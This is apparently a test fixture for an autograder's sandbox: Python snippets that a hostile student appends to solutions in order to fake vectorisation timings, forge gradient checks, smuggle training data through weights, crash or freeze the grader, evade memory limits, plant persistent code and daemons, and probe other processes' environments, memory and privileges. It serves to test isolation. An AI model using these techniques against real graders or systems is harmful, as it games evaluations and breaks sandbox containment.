"""What a hostile student appends to a solution module, for test_adversary.py.

Each constant is Python source appended to `solutions/<exercise>.py`; it redefines what it needs
(a later definition wins). "Earning" attacks compute less than the exercise asks and get points
only if the attack works; "probing" attacks are correct code that reports, in an error message
that reaches the report, whatever it could reach that it must not (`LEAK` starts the message).
"""

from __future__ import annotations

LEAK = "LEAKED:"

# A Python loop over output pixels ('same' padding, stride 1), what a student who did not vectorise
# writes; the attacks below use it for the timed size.
PIXEL_LOOP = '''

def _loop(x, w, b):
    kh, kw = w.shape[:2]
    padded = np.pad(x, ((0, 0), ((kh - 1) // 2, kh // 2), ((kw - 1) // 2, kw // 2), (0, 0)))
    out = np.empty(x.shape[:3] + (w.shape[3],))
    for i in range(x.shape[1]):
        for j in range(x.shape[2]):
            out[:, i, j] = np.tensordot(padded[:, i:i + kh, j:j + kw], w, axes=3) + b
    return out
'''

# --- conv2d's vectorisation points -------------------------------------------------------------

# The timed runs are checked at 64 output positions drawn from np.random.default_rng(len(tag)):
# known in advance, so a loop over those 64 pixels (zeros elsewhere) is "vectorised".
SAMPLED_POSITIONS = '''
import json as _json
_small = conv2d_forward  # the small checks: any correct code (a pixel loop would do)
_runs = []


def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
    held = [c["id"] for c in _json.load(open("plan.json"))["calls"] if c.get("hold")]
    if not held or x.shape[1] < 100:
        return _small(x, w, b, strides, padding)
    rng = np.random.default_rng(len(held[0]) - 2)  # the grader's picks: default_rng(len(tag))
    _runs.append(0)
    out = np.zeros((x.shape[0], x.shape[1], x.shape[2], w.shape[3]))
    for _ in range(len(_runs)):
        picks = np.stack([rng.integers(0, n, 64) for n in out.shape[:3]], axis=1)
    kh, kw = w.shape[:2]
    padded = np.pad(x, ((0, 0), ((kh - 1) // 2, kh), ((kw - 1) // 2, kw), (0, 0)))
    for n, i, j in picks:
        out[n, i, j] = np.tensordot(padded[n, i:i + kh, j:j + kw], w, axes=3) + b
    return out, None
'''

# A pixel loop for the timed size, and a cache filled at import (not timed): the timed images
# come from default_rng([seed, 7]) after the timed kernel, which sits in inputs.bin from the start,
# so the seed is found by trying seeds (20 us each: the CLI's 10**6 in ~20 s on one core, fewer
# cores' worth with helper processes; no time at all when a batch fixes the seed).
KNOWN_SEED = '''
import json as _json
_vectorised = conv2d_forward
_cache = {}
PIXEL_LOOP


def _precompute():
    plan = _json.load(open("plan.json"))
    held = [c for c in plan["calls"] if c.get("hold")]
    if not held:
        return
    spec = plan["inputs"][held[0]["args"][1]["array"]]
    with open("inputs.bin", "rb") as f:
        w = np.frombuffer(f.read(), spec["dtype"], int(np.prod(spec["shape"])), spec["offset"]).reshape(spec["shape"])
    for seed in range(1000):
        rng = np.random.default_rng([seed, 7])
        if np.array_equal(rng.normal(size=w.shape), w):
            break
    else:
        return
    b = rng.normal(size=w.shape[3])
    rng.normal(size=(1, 4, 4, w.shape[2]))
    for _ in held:
        x = rng.normal(size=(2, 160, 160, w.shape[2]))
        _cache[x[0, 0, :8, 0].tobytes()] = _vectorised(x, w, b, padding="same")[0]


_precompute()


def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
    if x.shape[1] < 100:
        return _vectorised(x, w, b, strides, padding)
    hit = _cache.get(np.ascontiguousarray(x[0, 0, :8, 0]).tobytes())
    return (hit if hit is not None else _loop(x, w, b)), None
'''.replace("PIXEL_LOOP", PIXEL_LOOP)

# A timed call that starts a helper process: with helpers, a loop over pixels spread over 16
# processes divides its wall time by the cores (and takes 16 shares of a busy machine against the
# yardstick's one), while the factor was measured for one process.
TIMED_HELPER = '''
import os as _os
_vectorised = conv2d_forward


def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
    if x.shape[1] >= 100:
        try:
            pid = _os.fork()
        except OSError:
            pid = None
        if pid == 0:
            _os._exit(0)
        if pid is not None:
            _os.waitpid(pid, 0)
            raise RuntimeError("LEAKED: started a helper process during a timed call")
    return _vectorised(x, w, b, strides, padding)
'''

# The pixel loop spread over 8 threads (NumPy's tensordot releases the GIL): on a machine with
# several cores the wall time shrinks, the CPU time the grader reads does not.
TIMED_THREADS = '''
import threading as _threading
_vectorised = conv2d_forward


def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
    if x.shape[1] < 100:
        return _vectorised(x, w, b, strides, padding)
    kh, kw = w.shape[:2]
    padded = np.pad(x, ((0, 0), ((kh - 1) // 2, kh // 2), ((kw - 1) // 2, kw // 2), (0, 0)))
    out = np.empty(x.shape[:3] + (w.shape[3],))

    def rows(first):
        for i in range(first, x.shape[1], 8):
            for j in range(x.shape[2]):
                out[:, i, j] = np.tensordot(padded[:, i:i + kh, j:j + kw], w, axes=3) + b

    threads = [_threading.Thread(target=rows, args=(k,)) for k in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return out, None
'''

# --- LeNet's "your gradients agree with your own loss" -------------------------------------------

# Wrong gradients (twice too large), and a loss made linear around the unperturbed weights with
# those gradients as its slope, so that the grader's centred difference agrees with them. Each side of
# the difference runs in a child of its own, given one perturbed point only, but that point gives the
# rest away: the direction is np.random.default_rng(0) normals (public), the step is 1e-8, and the
# graded kernels lie on a 1/1024 grid, so w - s * 1e-8 * d is on the grid for one sign s only.
DOUBLED = '''
_honest = Network.loss_and_grads


def _doubled(self, x, labels):
    loss, grads = _honest(self, x, labels)
    return loss, [2 * g for g in grads]
'''

AROUND = DOUBLED + '''

def _around(self, x, labels, anchor):
    """The doubled gradients at `anchor`, and a loss linear around it with them as its slope."""
    weights = [p.copy() for p in self._params]
    self._params = anchor
    try:
        loss, grads = _doubled(self, x, labels)
    finally:
        self._params = weights
    return loss + sum(float(np.sum((w - a) * g)) for w, a, g in zip(weights, anchor, grads)), grads
'''

LINEARISED_LOSS = AROUND + '''


def _unperturbed(weights):
    """The weights the grader perturbed, or None for weights it did not perturb."""
    rng = np.random.default_rng(0)
    directions = [rng.standard_normal(np.shape(w)) for w in weights]
    for sign in (1.0, -1.0):
        base = [w - sign * 1e-8 * d for w, d in zip(weights, directions)]
        if all(np.allclose(k * 1024, np.round(k * 1024), rtol=0, atol=1e-9) for k in base if k.ndim > 1):
            return base
    return None


def _linear(self, x, labels):
    base = _unperturbed([p.copy() for p in self._params])
    return _doubled(self, x, labels) if base is None else _around(self, x, labels, base)


Network.loss_and_grads = _linear
'''

# The same for a secret base point and direction, by an attacker who knows a point the others lie
# near: the first weights any child of the run set (the public ones, in the main child) are kept in
# /tmp, and every later model makes its loss linear around them with the wrong gradients there as
# slope, everywhere: self-consistent at any point. Only the fallback shares /tmp between children
# (in bubblewrap mode each child anchors at its own point, and the honest loss disagrees with the
# doubled gradients); its forward is honest, so its loss does not change as the cross-entropy of
# its logits does.
LINEARISED_SHARED = AROUND + '''


def _anchor(weights):
    path = "/tmp/TOKEN-" + "-".join(str(w.size) for w in weights) + ".npz"
    try:
        with np.load(path) as f:
            return [f["a%d" % i] for i in range(len(weights))]
    except (OSError, KeyError, ValueError):
        np.savez(path, **{"a%d" % i: w for i, w in enumerate(weights)})
        return weights


def _fake(self, x, labels):
    weights = [p.copy() for p in self._params]
    anchor = _anchor(weights)
    same = all(np.array_equal(w, a) for w, a in zip(weights, anchor))
    return _doubled(self, x, labels) if same else _around(self, x, labels, anchor)


Network.loss_and_grads = _fake
'''

# The same, with a forward that agrees: the labels each input came with are kept in /tmp too
# (keyed by the input's bytes), and the forward shifts each row's logit of its label so that the
# cross-entropy of its logits is the made-up loss. It needs the labels before it is given them:
# here from the main child through the fallback's shared /tmp (in bubblewrap mode a submission
# could carry the public variants' images and labels in its source). The points of the centred
# difference are asked at images and labels of their own, drawn from secret entropy: the first
# child to see them cannot know their labels. (In the fallback, the later children could still
# learn them from the first through /tmp: that mode shares /tmp between children, documented.)
LINEARISED_FORWARD = LINEARISED_SHARED + '''
import hashlib as _hashlib
_honest_forward = Network.forward
_made_up = Network.loss_and_grads


def _where(x):
    return "/tmp/TOKEN-labels-" + _hashlib.sha1(np.ascontiguousarray(x).tobytes()).hexdigest()[:16] + ".npy"


def _keeping(self, x, labels):
    try:
        np.save(_where(x), np.asarray(labels))
    except OSError:  # kept by an earlier child (another uid)
        pass
    return _made_up(self, x, labels)


def _entropy(z, labels, shift):
    rows = np.arange(len(labels))
    z = z.copy()
    z[rows, labels] += shift
    z = z - z.max(axis=1, keepdims=True)
    return float(-np.mean(z[rows, labels] - np.log(np.exp(z).sum(axis=1))))


def _agreeing(self, x):
    z = _honest_forward(self, x)
    try:
        labels = np.load(_where(x)).astype(np.int64)
    except (OSError, ValueError):
        return z
    target = _made_up(self, x, labels)[0]
    low, high = -60.0, 60.0  # the entropy falls as the labels' logits rise
    for _ in range(200):
        middle = (low + high) / 2
        low, high = (middle, high) if _entropy(z, labels, middle) > target else (low, middle)
    z = z.copy()
    z[np.arange(len(labels)), labels] += (low + high) / 2
    return z


Network.loss_and_grads = _keeping
Network.forward = _agreeing
'''

# The same wrong gradients without the forged loss: the check must catch them.
WRONG_GRADIENTS = DOUBLED + '''

Network.loss_and_grads = _doubled
'''

# --- the training run ------------------------------------------------------------------------------

# `train` writes its own record and end line at once, then works (CPU time, the grader's clock) and
# trains: the grader's clock stops at the end line, the training goes on (until the call's own
# time-out, limit + 5 s).
TRAIN_BUSY = 2.0
TRAIN_EARLY_END = '''
import json as _json, os as _os, time as _time
_real_train = train


def train(model, x, y, x_val, y_val, **kwargs):
    me = next(c["id"] for c in _json.load(open("plan.json"))["calls"] if c.get("hold"))  # the timed one
    with open(f"out/{me}.json", "w") as f:
        _json.dump({"id": me, "status": "ok"}, f)
    _os.write(3, f"E {me}\\n".encode())
    begun = _time.process_time()
    while _time.process_time() - begun < BUSY:
        pass
    return _real_train(model, x, y, x_val, y_val, **kwargs)
'''.replace("BUSY", repr(TRAIN_BUSY))

# `train` trains nothing; get_weights hands the training set to the evaluation child as extra
# arrays, and the fresh model answers by nearest neighbour.
KNN_EXTRA_WEIGHTS = '''
from . import lenet as _lenet
_Net = _lenet.ConvNet


class _Memo(_Net):
    def get_weights(self):
        return super().get_weights() + list(getattr(self, "_memo", []))

    def set_weights(self, weights):
        super().set_weights(weights[:6])
        if len(weights) > 6:
            self._memo = [np.asarray(w) for w in weights[6:]]

    def forward(self, x):
        if not hasattr(self, "_memo"):
            return super().forward(x)
        xs, ys = (m.reshape(len(m), -1) for m in self._memo)
        a = x.reshape(len(x), -1)
        return np.eye(10)[ys[((xs * xs).sum(1)[None] - 2 * a @ xs.T).argmin(1), 0].astype(int)]


_lenet.ConvNet = _Memo


def train(model, x, y, x_val, y_val, **kwargs):
    model._memo = [x, y]
'''

# The same with weights of exactly the right count and shapes: the 800 training digits (65 levels
# each, on the data's 1/64 grid) packed 7 pixels per float64 into the dense kernel, the labels 15
# per float64 into its bias. Only the grader's own forward pass on the weights would score what
# they learnt.
KNN_PACKED_WEIGHTS = '''
from . import lenet as _lenet
_Net = _lenet.ConvNet
_MARK = 4242.0


class _Packed(_Net):
    def get_weights(self):
        weights = super().get_weights()
        if not hasattr(self, "_data"):
            return weights
        x, y = self._data
        q = np.rint(x.reshape(-1) * 64).astype(np.int64)
        q = np.concatenate([q, np.zeros(-len(q) % 7, np.int64)]).reshape(-1, 7)
        kernel = np.zeros(weights[2].size)
        kernel[:len(q)] = (q * 65 ** np.arange(7)).sum(1)
        labels = np.asarray(y).astype(np.int64)
        labels = np.concatenate([labels, np.zeros(-len(labels) % 15, np.int64)]).reshape(-1, 15)
        bias = np.zeros(weights[3].size)
        bias[:len(labels)] = (labels * 10 ** np.arange(15)).sum(1)
        bias[-2:] = len(x), _MARK
        weights[2], weights[3] = kernel.reshape(weights[2].shape), bias
        return weights

    def set_weights(self, weights):
        super().set_weights(weights)
        bias = np.asarray(weights[3], dtype=np.float64)
        if bias[-1] != _MARK:
            return
        n = int(bias[-2])
        codes = np.asarray(weights[2], dtype=np.float64).reshape(-1).astype(np.int64)
        self._xs = ((codes[:, None] // 65 ** np.arange(7)) % 65).reshape(-1)[:n * 784].reshape(n, 784) / 64
        labels = bias[:-(-n // 15)].astype(np.int64)
        self._ys = ((labels[:, None] // 10 ** np.arange(15)) % 10).reshape(-1)[:n]

    def forward(self, x):
        if not hasattr(self, "_xs"):
            return super().forward(x)
        a = x.reshape(len(x), -1)
        return np.eye(10)[self._ys[((self._xs ** 2).sum(1)[None] - 2 * a @ self._xs.T).argmin(1)]]


_lenet.ConvNet = _Packed


def train(model, x, y, x_val, y_val, **kwargs):
    model._data = (x, y)
'''

# --- hurting the grader --------------------------------------------------------------------------

# 1500 nested folders in the output folder: the grader's recursive shutil.rmtree of the child's
# folder raises RecursionError (not an OSError, so ignore_errors does not catch it).
DEEP_FOLDERS = '''
import os as _os
_honest = dense_forward


def dense_forward(x, w, b):
    fd = _os.open("out", _os.O_RDONLY)
    for _ in range(0 if _os.path.exists("out/d") else 1500):
        _os.mkdir("d", dir_fd=fd)
        inner = _os.open("d", _os.O_RDONLY, dir_fd=fd)
        _os.close(fd)
        fd = inner
    return _honest(x, w, b)
'''

# A FIFO where the grader will write each held call's arrays (hold/<id>.bin, opened O_EXCL): the
# child needs to own its folder (the fallback chowns it to the child's uid; as an ordinary user in
# bubblewrap the folder is the user's, and so is the child).
HOLD_PLANTED = '''
import json as _json, os as _os


def _plant():
    held = [c["id"] for c in _json.load(open("plan.json"))["calls"] if c.get("hold")]
    for call in held:
        try:
            if not _os.access("hold", _os.W_OK):
                _os.rename("hold", "hold.old")
                _os.mkdir("hold")
            _os.mkfifo(f"hold/{call}.bin")
        except OSError:
            pass


_plant()
'''

# Output lines on the progress pipe without an end: the grader keeps the unfinished line.
ENDLESS_LINE = '''
import os as _os, time as _time


def dense_forward(x, w, b):
    chunk, end = b"S" * (1 << 20), _time.monotonic() + 60
    while _time.monotonic() < end:
        _os.write(3, chunk)
'''

# A return value nested 100,000 deep, and a record nested 500,000 deep (the runner's writer replaced).
DEEP_VALUE = '''
def dense_forward(x, w, b):
    value = []
    for _ in range(100000):
        value = [value]
    return value, None
'''
DEEP_RECORD = '''
import sys as _sys
_runner = _sys.modules["runner"]


def _finish(call_id, record, progress):
    with open(f"out/{call_id}.json", "w") as f:
        f.write("[" * 500000 + "]" * 500000)
    _runner._announce(progress, "E " + call_id)


_runner._finish = _finish
'''

# 5,000 files in the output folder.
MANY_FILES = '''
import os as _os
_honest = dense_forward


def dense_forward(x, w, b):
    for i in range(0 if _os.path.exists("out/f0") else 5000):
        open(f"out/f{i}", "w").close()
    return _honest(x, w, b)
'''

# Memory outside the address-space limit (RLIMIT_AS), held while the call returns the right answer.
# MEMORY_MB is the child's limit in the test; each way holds HELD_MB.
MEMORY_MB, HELD_MB = 512, 768
MEMFD = '''
import os as _os
_honest = dense_forward
_held = []


def dense_forward(x, w, b):
    for i in range(0 if _held else HELD_MB // 48):  # once (the centred difference calls it often)
        fd = _os.memfd_create(f"m{i}")
        _os.posix_fallocate(fd, 0, 48 << 20)
        _held.append(fd)
    return _honest(x, w, b)
'''.replace("HELD_MB", str(HELD_MB))

# System V segments, after raising the IPC namespace's caps (its sysctls belong to the namespace's
# root, which the worker is), each attached, touched and detached (so RLIMIT_AS never sees them).
SYSV = '''
import ctypes as _ctypes
_honest = dense_forward
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_done = []


def dense_forward(x, w, b):
    if _done:  # once (the centred difference calls it often)
        return _honest(x, w, b)
    _done.append(1)
    for name, value in (("shmmax", 1 << 40), ("shmall", 1 << 30)):
        try:
            with open(f"/proc/sys/kernel/{name}", "w") as f:
                f.write(str(value))
        except OSError:
            pass
    made = []
    try:
        for _ in range(HELD_MB // 48):
            segment = _libc.shmget(0, 48 << 20, 0o600 | 0o1000)
            if segment < 0:
                raise OSError(_ctypes.get_errno(), "shmget")
            made.append(segment)
            address = _libc.shmat(segment, None, 0)
            _ctypes.memset(address, 1, 48 << 20)
            _libc.shmdt(_ctypes.c_void_p(address))
        return _honest(x, w, b)
    finally:
        for segment in made:  # no residue in the fallback, where the segments would outlive the run
            _libc.shmctl(segment, 0, None)
'''.replace("HELD_MB", str(HELD_MB))

# Processes, each under the limit, together over it.
PROCESSES = '''
import os as _os, signal as _signal
_honest = dense_forward
_done = []


def dense_forward(x, w, b):
    if _done:  # once (the centred difference calls it often)
        return _honest(x, w, b)
    _done.append(1)
    kids, ready = [], _os.pipe()
    for _ in range(4):
        pid = _os.fork()
        if pid == 0:
            block = b"x" * (HELD_MB // 4 << 20)  # touched
            _os.write(ready[1], b".")
            _signal.pause()
            _os._exit(len(block))
        kids.append(pid)
    got = b""
    while len(got) < len(kids):
        got += _os.read(ready[0], 4)
    for pid in kids:
        _os.kill(pid, 9)
        _os.waitpid(pid, 0)
    return _honest(x, w, b)
'''.replace("HELD_MB", str(HELD_MB))

# --- reaching out, leaving things behind ---------------------------------------------------------------
# Placeholders (TOKEN, ADDRESS, PATHS, ...) are replaced by the test.

# dense_forward computes nothing: it sends its inputs to a server of the test (TCP on the host's
# loopback, then an abstract UNIX socket) and returns the answer.
NETWORK = '''
import io as _io, socket as _socket


def _ask(family, address, payload):
    with _socket.socket(family, _socket.SOCK_STREAM) as s:
        s.settimeout(1.0)
        s.connect(address)
        s.sendall(len(payload).to_bytes(8, "big") + payload)
        size = int.from_bytes(s.recv(8), "big")
        data = b""
        while len(data) < size:
            data += s.recv(size - len(data))
        return np.load(_io.BytesIO(data))


def dense_forward(x, w, b):
    buffer = _io.BytesIO()
    np.savez(buffer, x=x, w=w, b=b)
    for family, address in ((_socket.AF_INET, ADDRESS), (_socket.AF_UNIX, ABSTRACT)):
        try:
            return _ask(family, address, buffer.getvalue()), (x, w)
        except OSError:
            continue
    raise NotImplementedError
'''

# A correct module that leaves its own source behind wherever it can: files in the shared temporary
# folders, its home and its working folder, a System V segment under a fixed key, and a daemon
# (double fork, setsid, named TOKEN) that would serve it on an abstract socket.
PLANTER = '''# PLANTER
import ctypes as _ctypes, os as _os, socket as _socket, time as _time
_libc = _ctypes.CDLL(None, use_errno=True)


def _source():
    with open(__file__, "rb") as f:
        return f.read().split(b"# PLANTER")[0]  # the module above this attack


def _plant():
    code = _source()
    for folder in ("/tmp", "/var/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp"), _os.getcwd()):
        try:
            with open(f"{folder}/TOKEN.py", "wb") as f:
                f.write(code)
            _os.chmod(f"{folder}/TOKEN.py", 0o666)
        except OSError:
            pass
    segment = _libc.shmget(KEY, 1 << 16, 0o1666)
    if segment >= 0:
        _libc.shmat.restype = _ctypes.c_void_p
        address = _libc.shmat(segment, None, 0)
        _ctypes.memmove(address, len(code).to_bytes(4, "little") + code, len(code) + 4)
    try:
        first = _os.fork()
    except OSError:  # a child is one process (the sandbox's seccomp filter)
        return
    if first == 0:
        _os.setsid()
        if _os.fork() == 0:
            _libc.prctl(15, b"TOKEN"[:15], 0, 0, 0)  # PR_SET_NAME
            server = _socket.socket(_socket.AF_UNIX)
            try:
                server.bind("\\0TOKEN")
                server.listen(4)
                server.settimeout(20)
                while True:
                    client, _ = server.accept()
                    client.sendall(code)
                    client.close()
            except OSError:
                _time.sleep(20)
            _os._exit(0)
        _os._exit(0)
    _os.wait()


_plant()
'''

# A whole module (not appended to a solution): dense.py not written, except that it runs whatever an
# earlier run left behind (PLANTER's module).
FINDER = '''
import ctypes as _ctypes, os as _os, socket as _socket


def dense_forward(x, w, b):
    raise NotImplementedError


def dense_backward(dout, cache):
    raise NotImplementedError


def _found():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp"), _os.getcwd()):
        try:
            with open(f"{folder}/TOKEN.py", "rb") as f:
                return f.read()
        except OSError:
            pass
    libc = _ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(KEY, 0, 0)
    if segment >= 0:
        libc.shmat.restype = _ctypes.c_void_p
        address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
        size = int.from_bytes(_ctypes.string_at(address, 4), "little")
        return _ctypes.string_at(address + 4, size)
    try:
        with _socket.socket(_socket.AF_UNIX) as s:
            s.connect("\\0TOKEN")
            return s.recv(1 << 16)
    except OSError:
        return None


_code = _found()
if _code:
    exec(_code.decode(), globals())
'''

# Correct code that reports (in an error message, which reaches the report) what it could reach.
PROBE = '''
import ctypes as _ctypes, os as _os
_honest = dense_forward
_libc = _ctypes.CDLL(None, use_errno=True)


def _reached():
    found = []
    CHECKS
    return found


def dense_forward(x, w, b):
    found = _reached()
    if found:
        raise RuntimeError("LEAKED: " + "; ".join(found)[:400])
    return _honest(x, w, b)
'''


def probe(checks: str) -> str:
    """PROBE with `checks`: lines (4-space indented in _reached) that append what they reached to `found`."""
    return PROBE.replace("    CHECKS", "\n".join("    " + line for line in checks.strip().splitlines()))


READS = '''
for path in PATHS:
    try:
        with open(path, "rb") as f:
            f.read(1)
        found.append("read " + path)
    except OSError:
        pass
    try:
        _os.listdir(path)
        found.append("listed " + path)
    except OSError:
        pass
'''

WRITES = '''
for folder in PATHS + [_os.path.dirname(__file__)]:  # and the package every child imports
    try:
        with open(f"{folder}/TOKEN.txt", "w") as f:
            f.write("x")
        found.append("wrote in " + folder)
    except OSError:
        pass
'''

ENVIRON = '''
if "TOKEN" in str(_os.environ):
    found.append("own environment")
for pid in filter(str.isdigit, _os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            if b"TOKEN" in f.read():
                found.append(f"environment of pid {pid}")
    except OSError:
        pass
'''

MEMORY_OF_OTHERS = '''
for pid in filter(str.isdigit, _os.listdir("/proc")):
    if int(pid) == _os.getpid():
        continue
    try:
        _os.close(_os.open(f"/proc/{pid}/mem", _os.O_RDONLY))
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            found.append(f"memory of pid {pid} ({f.read()[:60]!r})")
    except OSError:
        pass
'''

DESCRIPTORS = '''
for fd in map(int, _os.listdir("/proc/self/fd")):
    try:
        target = _os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if fd > 4 and not target.startswith("/proc/"):
        found.append(f"descriptor {fd} ({target})")
'''

PRIVILEGES = '''
status = open("/proc/self/status").read()
if "CapEff:\\t0000000000000000" not in status:
    found.append("capabilities")
if "NoNewPrivs:\\t1" not in status:
    found.append("new privileges allowed")
try:
    pid = _os.fork()
except OSError:  # one process (the sandbox's seccomp filter): try in this one
    pid = None
    if _libc.unshare(0x10000000) == 0:
        found.append("a new user namespace")
if pid == 0:
    _os._exit(0 if _libc.unshare(0x10000000) == 0 else 1)
if pid and _os.waitstatus_to_exitcode(_os.waitpid(pid, 0)[1]) == 0:
    found.append("a new user namespace")
if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    found.append("mount")
for device in ("/dev/kmsg", "/dev/mem", "/dev/tty", "/dev/sda", "/dev/vda", "/sys/kernel"):
    try:
        _os.close(_os.open(device, _os.O_RDONLY))
        found.append(device)
    except OSError:
        pass
'''

# SIGSTOP to every process that runs the fork server's code (the server, the child's holder and
# keeper), from the worker.
STOPPER = '''
import os as _os, signal as _signal


def _stop():
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"warden.py" in f.read() and int(pid) != _os.getpid():
                    _os.kill(int(pid), _signal.SIGSTOP)
        except OSError:
            pass


_stop()
'''

# A pixel loop whose timed runs write forged yardstick lines ("Y {...}") into every pipe of every
# process they can open through /proc/<pid>/fd (the keeper's status pipe is read by the grader).
FORGED_YARDSTICK = '''
import json as _json, os as _os
_vectorised = conv2d_forward
PIXEL_LOOP

def _forge(ids):
    line = ("Y " + _json.dumps({i: 1000.0 for i in ids}) + "\\n").encode()
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            fds = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if _os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    pipe = _os.open(f"/proc/{pid}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
                    _os.write(pipe, line)
                    _os.close(pipe)
            except OSError:
                pass


def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
    if x.shape[1] < 100:
        return _vectorised(x, w, b, strides, padding)
    _forge([c["id"] for c in _json.load(open("plan.json"))["calls"] if c.get("hold")])
    return _loop(x, w, b), None
'''.replace("PIXEL_LOOP", PIXEL_LOOP)

# `train` trains nothing: it loads weights trained elsewhere on scikit-learn's digits with their true
# labels (PRETRAINED: base64 of an .npz of float16 arrays "0".."5", ~0.5 MB of source), learns the
# run's renaming of the labels from the labels it is given (what the pretrained model predicts for
# each training image against the label given), and moves the output units accordingly.
PRETRAINED_PERMUTED = '''
import base64 as _base64, io as _io


def train(model, x, y, x_val, y_val, **kwargs):
    with np.load(_io.BytesIO(_base64.b64decode(PRETRAINED))) as f:
        weights = [f[str(i)].astype(np.float64) for i in range(len(f.files))]
    model.set_weights(weights)
    predicted = model.forward(x).argmax(1)
    renamed = [np.bincount(np.asarray(y)[predicted == c].astype(int), minlength=10).argmax() for c in range(10)]
    kernel, bias = weights[-2].copy(), weights[-1].copy()
    weights[-2][:, renamed], weights[-1][renamed] = kernel, bias
    model.set_weights(weights)
'''
